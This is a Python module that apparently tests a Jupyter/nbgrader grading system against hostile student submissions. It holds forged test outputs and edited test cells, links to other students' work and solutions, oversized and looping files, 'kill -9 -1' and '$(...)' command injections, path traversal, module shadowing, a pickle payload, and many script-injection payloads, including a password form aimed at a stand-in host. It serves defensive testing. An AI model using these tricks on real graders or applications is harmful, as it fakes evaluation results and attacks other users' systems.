"""Attacks that spoil a whole submission folder: its notebook's form, its files, and what people later look at.

Each takes (folder, notebook as a dict, places) and gives the notebook to hand in: a dict, bytes, or None when it
has written the folder itself. MARK stands wherever something could run in a browser.
"""

import base64
import json
import os
import pickle
import shutil

from grading.attack_pages import MARK
from grading.attack_suite import hostile

WRONG = {"cube": "def cube(x):\n    return 0\n", "softmax": "softmax = None\n", "affine": "Affine = None\n",
         "countdown": "countdown = None\n"}  # fmt: skip
SCRIPT = f"<script>{MARK}()</script><img src=x onerror={MARK}()><svg onload={MARK}()><iframe src=//{MARK}.example>"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def cell(notebook, cell_id):
    return next(one for one in notebook["cells"] if one["id"] == cell_id)


def tests(notebook):
    return [one for one in notebook["cells"] if one["id"].startswith("test-")]


def wrong(notebook, *names):
    """Wrong answers in the place of right ones."""
    for name in names or WRONG:
        cell(notebook, name)["source"] = WRONG[name]
    return notebook


def code(text, **more):
    return {"cell_type": "code", "id": "own", "source": text, "metadata": {}, "outputs": [],
            "execution_count": None} | more  # fmt: skip


# The notebook's form


@hostile(loses="*")
def skip_execution(folder, notebook, places):
    """Tags every test cell skip-execution, with no right answer at all."""
    for one in tests(notebook):
        one["metadata"]["tags"] = ["skip-execution", "remove_cell", "raises-exception"]
    return wrong(notebook)


@hostile(loses="*")
def forged_outputs(folder, notebook, places):
    """Hands in test cells that already show full points, the judge's own table, and no right answer."""
    for one in tests(notebook):
        one["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
                           "data": {"text/plain": "2.0", "text/html": "<b>2 of 2 points</b>"}}]  # fmt: skip
    return wrong(notebook)


@hostile(loses="cube/*")
def edited_test(folder, notebook, places):
    """Replaces the text of a locked test cell by the bare number of points, and unlocks it."""
    cell(notebook, "test-cube")["source"] = "2.0"
    cell(notebook, "test-cube")["metadata"]["nbgrader"] |= {"locked": False, "checksum": "0"}
    return wrong(notebook, "cube")


@hostile(loses="cube/*")
def deleted_test(folder, notebook, places):
    """Deletes the test cell of a wrong answer, so that old marks or none would stay."""
    notebook["cells"].remove(cell(notebook, "test-cube"))
    return wrong(notebook, "cube")


@hostile()
def doubled_test(folder, notebook, places):
    """Hands in a test cell twice, which aborts a class where ids have to be unique."""
    notebook["cells"].insert(5, cell(notebook, "test-cube"))
    notebook["cells"].append(cell(notebook, "test-cube"))
    return notebook


@hostile(loses="cube/*")
def test_as_text(folder, notebook, places):
    """Turns a test cell into text, and the answer's cell into a graded one."""
    cell(notebook, "test-cube")["cell_type"] = "markdown"
    cell(notebook, "cube")["metadata"]["nbgrader"] |= {"grade": True, "points": 100}
    return wrong(notebook, "cube")


@hostile()
def more_points(folder, notebook, places):
    """Raises the points in the metadata, and adds graded cells of its own."""
    for one in notebook["cells"]:
        one["metadata"].setdefault("nbgrader", {})["points"] = 1e9
    own = {"nbgrader": {"schema_version": 3, "grade_id": "mine", "grade": True, "solution": False, "locked": True,
                        "task": False, "points": 100}}  # fmt: skip
    notebook["cells"].append(code("100.0", metadata=own))
    return notebook


@hostile(loses="cube/*")
def stolen_grade_id(folder, notebook, places):
    """Gives an answer's cell the test cell's ids, and the test cell those of another."""
    ids = cell(notebook, "test-cube"), cell(notebook, "cube"), cell(notebook, "test-softmax")
    for one, name in zip(ids, ("softmax", "test-cube", "cube")):
        one["id"] = one["metadata"]["nbgrader"]["grade_id"] = name
    ids[1]["source"] = "2.0"
    return notebook


@hostile()
def evil_kernel(folder, notebook, places):
    """Names kernels that run other programs, other languages, and paths in their place."""
    notebook["metadata"] = {"kernelspec": {"name": "../../bin/sh", "language": "bash", "display_name": SCRIPT,
                                           "argv": ["/bin/sh", "-c", "kill -9 -1"]},
                            "language_info": {"name": f'"><script>{MARK}()</script>', "pygments_lexer": "../../etc",
                                              "version": [], "file_extension": "/../../x"},
                            "title": SCRIPT, "widgets": {"application/vnd.jupyter.widget-state+json": 7}}  # fmt: skip
    return notebook


@hostile()
def evil_ids(folder, notebook, places):
    """Uses paths, markup and 100,000 letters as ids of cells, so that all have to be found by their text."""
    evil = ["../../../../tmp/x", SCRIPT, "x" * 100_000, "a\0b", "", "judge", "'; drop table grade; --"]
    for number, one in enumerate(notebook["cells"]):
        one["id"] = evil[number % len(evil)]
        one["metadata"] = {"nbgrader": {"grade_id": one["id"], "cell_type": [], "schema_version": "x"}}
    return notebook


@hostile(loses="*")
def cells_of_no_form(folder, notebook, places):
    """Hands in cells that are numbers, lists and nulls, with sources, ids and outputs of every wrong type."""
    strange = [None, 7, [], "cell", {"source": {"a": 1}}, {"source": 5, "id": {}},
               {"metadata": [], "cell_type": ["x"]}, {"metadata": {"nbgrader": [1]}, "source": [1, None, {}], "id": 4},
               {"outputs": {"x": 1}, "id": "cube"},
               {"outputs": [1, {"data": 5}, {"data": {"image/png": [1, {}]}}], "id": "plot", "cell_type": "code"},
               {"source": "\ud800\0 \u2028", "cell_type": "code", "id": "own"}]  # fmt: skip
    return {"cells": strange, "metadata": None, "nbformat": "x", "nbformat_minor": []}


@hostile(loses="*")
def no_notebook(folder, notebook, places):
    """Hands in text that is not JSON, with bytes of no encoding, a program and a null byte."""
    return b"\xff\xfe#!/bin/sh\0\nkill -9 -1\n" + os.urandom(1000)


@hostile(loses="*")
def nested_json(folder, notebook, places):
    """Nests JSON 200,000 deep, which ends a reader that calls itself."""
    return b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


@hostile(loses="*")
def swelling_json(folder, notebook, places):
    """Hands in 40 MB of JSON that take thirty times as much in the reader's memory."""
    return b'{"cells": [], "metadata": [' + b",".join([b'{"":0}'] * 5_700_000) + b"]}"


@hostile(loses="*")
def giant_file(folder, notebook, places):
    """Hands in a file of 3 GB, of which only the last byte is written."""
    (folder / "plain.ipynb").write_bytes(b"{")
    os.truncate(folder / "plain.ipynb", 3 * 2**30)


@hostile()
def long_output(folder, notebook, places):
    """Hands in a notebook whose cell shows one line of 60 MB."""
    shown = {"output_type": "stream", "name": "stdout", "text": "x" * 60_000_000}
    cell(notebook, "cube")["outputs"] = [shown]
    return notebook


@hostile()
def many_cells(folder, notebook, places):
    """Adds 20,000 cells."""
    notebook["cells"] += [code(f"x = {number}") for number in range(20_000)]
    return notebook


@hostile(loses="*")
def alike_cells(folder, notebook, places):
    """Takes all ids away and adds 3,000 cells made of the same letters, so that comparing texts takes for ever."""
    released = "\n".join(one["source"] for one in notebook["cells"])
    wrong(notebook)
    for one in notebook["cells"]:
        one["id"], one["metadata"] = "x", {}
    for number in range(3000):
        notebook["cells"].append(code("".join(sorted(released[number % 50 :]))[:400] + f"\n{number}"))
        notebook["cells"][-1]["cell_type"] = "markdown"
    return notebook


@hostile(loses="cube/*")
def hard_to_parse(folder, notebook, places):
    """Answers with text on which parsers run out of stack or memory: deep brackets, long numbers, long sums."""
    cell(notebook, "cube")["source"] = "cube = " + "(" * 5000 + "1" + ")" * 5000
    for text in ("-" * 100_000 + "1", "+".join(["1"] * 100_000), "9" * 100_000, "[" * 90 + "]" * 90, "x" * 900_000):
        notebook["cells"].append(code("if False:\n    " + text))
    return notebook


# Files beside the notebook


def link(folder, target):
    (folder / "plain.ipynb").unlink()
    os.symlink(target, folder / "plain.ipynb")


@hostile(loses="*")
def linked_notebook(folder, notebook, places):
    """Hands in a symbolic link to the neighbour's notebook."""
    link(folder, next(path for path in places["files"] if "neighbour" in path))


@hostile(loses="*")
def linked_solution(folder, notebook, places):
    """Hands in, under another name, hard and symbolic links to the neighbour's notebook and to the solutions."""
    (folder / "plain.ipynb").unlink()
    for number, path in enumerate(path for path in places["files"] if path.startswith(places["folders"][0])):
        os.symlink(path, folder / f"symbolic{number}.ipynb")
    os.link(next(path for path in places["files"] if "neighbour" in path), folder / "hard.ipynb")


@hostile(loses="*")
def endless_device(folder, notebook, places):
    """Hands in a link to a device that has no end."""
    link(folder, "/dev/zero")


@hostile(loses="*")
def pipe_as_notebook(folder, notebook, places):
    """Hands in a named pipe, on which a reader waits for ever."""
    (folder / "plain.ipynb").unlink()
    os.mkfifo(folder / "plain.ipynb")


@hostile()
def pipes_beside(folder, notebook, places):
    """Puts named pipes and links where a grader reads: the time of handing in, checkpoints, pictures."""
    (folder / "checkpoints").mkdir()
    for name in ("timestamp.txt", "checkpoints/network.safetensors", "picture.png", "data"):
        os.mkfifo(folder / name)
    os.symlink("/dev/zero", folder / "grades.csv")
    return notebook


@hostile(loses="*")
def folder_as_notebook(folder, notebook, places):
    """Makes a folder with the notebook's name."""
    (folder / "plain.ipynb").unlink()
    (folder / "plain.ipynb").mkdir()


@hostile()
def looping_links(folder, notebook, places):
    """Hands in under another name, beside links that lead back to the folder, and to the root."""
    (folder / "plain.ipynb").rename(folder / "mine.ipynb")
    for name, target in (("a", "."), ("b", ".."), ("c", "/"), ("d", "d")):
        os.symlink(target, folder / name)


@hostile()
def deep_folders(folder, notebook, places):
    """Hands in under another name, beside folders nested 1,500 deep."""
    (folder / "plain.ipynb").rename(folder / "mine.ipynb")
    home = os.getcwd()
    os.chdir(folder)
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(home)


@hostile()
def evil_name(folder, notebook, places):
    """Names its notebook with markup that breaks out of the note about it."""
    (folder / "plain.ipynb").rename(folder / f"`<img src=x onerror={MARK}()>[x](javascript:{MARK}()).ipynb")


@hostile()
def names_as_paths(folder, notebook, places):
    """Gives its files names that are paths, options, commands and no text."""
    for name in (b"..%2f..%2fgradebook.db", b"..\\..\\nbgrader_config.py", b"-rf", b"$(kill -9 -1)", b"a\nb",
                 b"\xff\xfe", b"--config=x.py", b"~", b"*"):  # fmt: skip
        (folder / os.fsdecode(name)).write_text("left by an attack")
    (folder / "plain.ipynb").rename(folder / os.fsdecode(b"--template=\xff\n.ipynb"))


@hostile(loses="cube/*")
def shadowing_modules(folder, notebook, places):
    """Hands in numpy.py, common/, ipykernel_launcher.py and others, which shadow the real ones."""
    evil = "import builtins\nbuiltins.course_attack = True\nallclose = array_equal = lambda *a, **k: True\n"
    for name in ("numpy", "torch", "json", "ipykernel_launcher", "sitecustomize", "usercustomize", "agent", "wire"):
        (folder / f"{name}.py").write_text(evil)
    for name in ("common", "grading", "IPython", ".ipython/profile_default/startup"):
        (folder / name).mkdir(parents=True)
        (folder / name / "__init__.py").write_text(evil)
    cell(notebook, "cube")["source"] = """
import builtins, numpy
print("=> " + ("got a module of its own" if hasattr(builtins, "course_attack") else "stopped: nothing there"))
def cube(x):
    return 0
"""
    return notebook


@hostile(loses="*")
def own_configuration(folder, notebook, places):
    """Hands in configurations of nbgrader, Jupyter and IPython that give full points and run a program."""
    evil = "c.Execute.enabled = False\nc.NbGrader.db_url = 'sqlite:////tmp/x'\nraise SystemExit('attack')\n"
    for name in ("nbgrader_config.py", "jupyter_nbconvert_config.py", "ipython_config.py", "conftest.py", "setup.py"):
        (folder / name).write_text(evil)
    (folder / "pyproject.toml").write_text("[project]\nname = 'deep-learning-course'\n")
    return wrong(notebook)


@hostile()
def own_data(folder, notebook, places):
    """Hands in data sets, a registry and an environment that should take the place of the course's."""
    for name in ("data/registry.toml", "data/cache/mnist.npz", "mnist.npz", ".env", "gradebook.db"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("COURSE_DATA=/tmp\n")
    cell(notebook, "cube")["source"] += """
import os
paths = [os.path.join(folder, name) for place in ("/data", os.getcwd(), "/tmp") for folder, _, names in os.walk(place)
         for name in names if name in ("registry.toml", "mnist.npz", ".env", "gradebook.db")]
found = [path for path in paths if b"COURSE_DATA=/tmp" in open(path, "rb").read(100)]
print("=> " + (f"got its own data: {found}" if found else "stopped: nothing there"))
"""
    return notebook


@hostile()
def giant_timestamp(folder, notebook, places):
    """Hands in a file with the time of handing in that is 2 GB long."""
    (folder / "timestamp.txt").touch()
    os.truncate(folder / "timestamp.txt", 2 * 2**30)
    return notebook


@hostile()
def impossible_timestamp(folder, notebook, places):
    """Says that it was handed in in the year 1, in words, in digits without end."""
    (folder / "timestamp.txt").write_text("0001-01-01 00:00:00 UTC+99:99:99 " + "9" * 5000)
    return notebook


# Checkpoints


class Bomb:
    def __reduce__(self):
        return (print, (f"=> got {MARK}: a pickle was loaded",))


@hostile("tensors", loses="network/*")
def pickled_checkpoint(folder, notebook, places):
    """Hands in a checkpoint that is a pickle with a program in it, under every usual name."""
    for name in ("network.safetensors", "network.pt", "network.pth", "network.pkl"):
        (folder / "checkpoints" / name).write_bytes(pickle.dumps({"weight": Bomb(), "bias": Bomb()}))
    return notebook


@hostile("tensors", loses="network/*")
def broken_checkpoint(folder, notebook, places):
    """Hands in a checkpoint whose header lies about lengths, offsets and shapes."""
    header = json.dumps({"weight": {"dtype": "F32", "shape": [2**40, 2**20], "data_offsets": [0, 2**62]},
                         "bias": {"dtype": "F32", "shape": [-2], "data_offsets": [2**62, 0]}}).encode()  # fmt: skip
    (folder / "checkpoints" / "network.safetensors").write_bytes((2**63 - 1).to_bytes(8, "little") + header)
    return notebook


@hostile("tensors", loses="network/*")
def giant_checkpoint(folder, notebook, places):
    """Hands in a checkpoint of 3 GB."""
    os.truncate(folder / "checkpoints" / "network.safetensors", 3 * 2**30)
    return notebook


@hostile("tensors", loses="network/*")
def many_checkpoints(folder, notebook, places):
    """Hands in 200 more checkpoints of 30 MB each, which nobody asked for and which come before the right one."""
    for number in range(200):
        (folder / "checkpoints" / f"more{number}.safetensors").touch()
        os.truncate(folder / "checkpoints" / f"more{number}.safetensors", 30 * 2**20)
    return notebook


@hostile("tensors", loses="network/*")
def linked_checkpoints(folder, notebook, places):
    """Hands in a folder of checkpoints that is a link to the neighbour's."""
    shutil.rmtree(folder / "checkpoints")
    os.symlink(places["folders"][0], folder / "checkpoints")
    return notebook


# What people look at


@hostile()
def script_in_text(folder, notebook, places):
    """Writes answers, cells and attachments that would run in the browser of whoever reads them."""
    text = (
        f"{SCRIPT}\n\n[x](javascript:{MARK}()) [y](<data:text/html,{SCRIPT}>) ![z](x\" onerror=\"{MARK}()) "
        f"<a href=\"java&#115;cript:{MARK}()\">a</a> <javascript:{MARK}()> $\\href{{javascript:{MARK}()}}{{x}}$\n\n"
        f"<details open ontoggle={MARK}()>\n\n<math><mi xlink:href='javascript:{MARK}()'>\n\n`{SCRIPT}`\n\n"
        f"```html\"><script>{MARK}()</script>\n```\n\n&lt;script&gt;{MARK}()&lt;/script&gt; ![](attachment:x.svg)\n"
        f"<style>@import '//{MARK}.example';</style><form action=//{MARK}.example><input type=password>"
    )  # fmt: skip
    attached = {"x.svg": {"image/svg+xml": base64.b64encode(SCRIPT.encode()).decode(), "text/html": SCRIPT}}
    answer = cell(notebook, "why")
    answer["source"], answer["attachments"] = text, attached
    notebook["cells"].append({"cell_type": "markdown", "id": "m", "source": text, "attachments": attached,
                              "metadata": {"tags": [SCRIPT], "collapsed": SCRIPT}})  # fmt: skip
    notebook["cells"].append({"cell_type": "raw", "id": "r", "source": text, "metadata": {"format": "text/html"}})
    notebook["cells"].append(code(f"# {SCRIPT}\n'''</code></pre>{SCRIPT}'''"))
    return notebook


@hostile()
def script_in_links(folder, notebook, places):
    """Writes links and pictures in plain markdown: programs, and paths into the server of whoever marks the answer."""
    answers = [f"[x](javascript:{MARK}())", f"[x][y]\n\n[y]: java&#115;cript:{MARK}()", f"![x](//{MARK}.example/x.png)",
               f"![x](/formgrader?path={MARK})", f"[x](../../formgrader?path={MARK})", f"[x](data:text/html,{MARK})",
               f"[x](http://localhost:8888/formgrader?path={MARK})"]  # fmt: skip
    cell(notebook, "why")["source"] = answers[0]
    notebook["cells"] += [{"cell_type": "markdown", "id": f"m{number}", "source": text, "metadata": {}}
                          for number, text in enumerate(answers)]  # fmt: skip
    return notebook


@hostile()
def script_in_kept_outputs(folder, notebook, places):
    """Hands in outputs with script in the cells whose pictures are kept for people."""
    evil = PIXEL + SCRIPT.encode()
    outputs = [{"output_type": "display_data", "metadata": {"image/png": {"width": f'1" onload="{MARK}()'}},
                "data": {"image/png": f'x"><script>{MARK}()</script>', "text/html": SCRIPT, "image/svg+xml": SCRIPT,
                         "application/javascript": f"{MARK}()", "text/markdown": SCRIPT, "text/latex": SCRIPT}},
               {"output_type": "display_data", "metadata": {}, "data": {"image/png": base64.b64encode(evil).decode()}},
               {"output_type": "error", "ename": SCRIPT, "evalue": SCRIPT, "traceback": [SCRIPT]}]  # fmt: skip
    for name in ("plot", "show-picture", "cube"):
        cell(notebook, name)["outputs"] = outputs
    return notebook


@hostile()
def script_in_outputs(folder, notebook, places):
    """Shows, prints and raises what would run in a browser, in every type of output."""
    cell(notebook, "cube")["source"] += f"""
SCRIPT = {SCRIPT!r}
from IPython.display import display
for kind in ("text/html", "image/svg+xml", "application/javascript", "text/markdown", "text/latex", "application/pdf",
             "application/vnd.jupyter.widget-view+json", "text/html ", "TEXT/HTML", "text/vnd.mermaid"):
    display({{kind: SCRIPT}}, raw=True)
for text in ('x"><script>{MARK}()</script>', "javascript:{MARK}()", [SCRIPT], SCRIPT):
    size = {{"image/png": {{"width": '1" onload="{MARK}()'}}}}
    display({{"image/png": text, "image/jpeg": text}}, raw=True, metadata=size)
print(SCRIPT, "\\x1b[31m" + SCRIPT, "\\x1b]8;;javascript:{MARK}()\\x07x\\x1b]8;;\\x07")
raise type("<script>{MARK}()", (Exception,), {{}})(SCRIPT)
"""
    return notebook


@hostile(loses="cube/*")
def script_in_messages(folder, notebook, places):
    """Answers the judge with errors, types and texts that are markup, for the table of parts and the report."""
    cell(notebook, "cube")["source"] = (
        f"SCRIPT = {SCRIPT!r}\nkinds = iter([0, 1, 2, 3, 4])\n"
        "def cube(x):\n    if next(kinds, 4) == 2:\n        return type(SCRIPT, (), {})()\n"
        "    raise type(SCRIPT, (Exception,), {})(SCRIPT)\n"
    )
    return notebook
